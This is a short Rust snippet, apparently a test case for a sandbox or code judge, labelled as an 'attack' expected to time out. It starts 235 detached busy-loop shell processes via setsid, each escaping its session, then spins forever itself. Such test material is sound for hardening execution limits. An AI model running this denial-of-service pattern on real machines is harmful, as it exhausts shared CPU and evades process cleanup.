// attack: starts as many busy processes as it gets, each out of its session's reach, and goes on itself
// exercise: where-to
// ends with: takes too long
// time limit: 5
// not to be tried without a box
// then the solution
for _ in 0..235 {
    let spins = ["-f", "/usr/bin/timeout", "60", "/bin/sh", "-c", "while :; do :; done"];
    let _ = std::process::Command::new("/usr/bin/setsid").args(spins).status();
}
loop {
    std::hint::spin_loop();
}
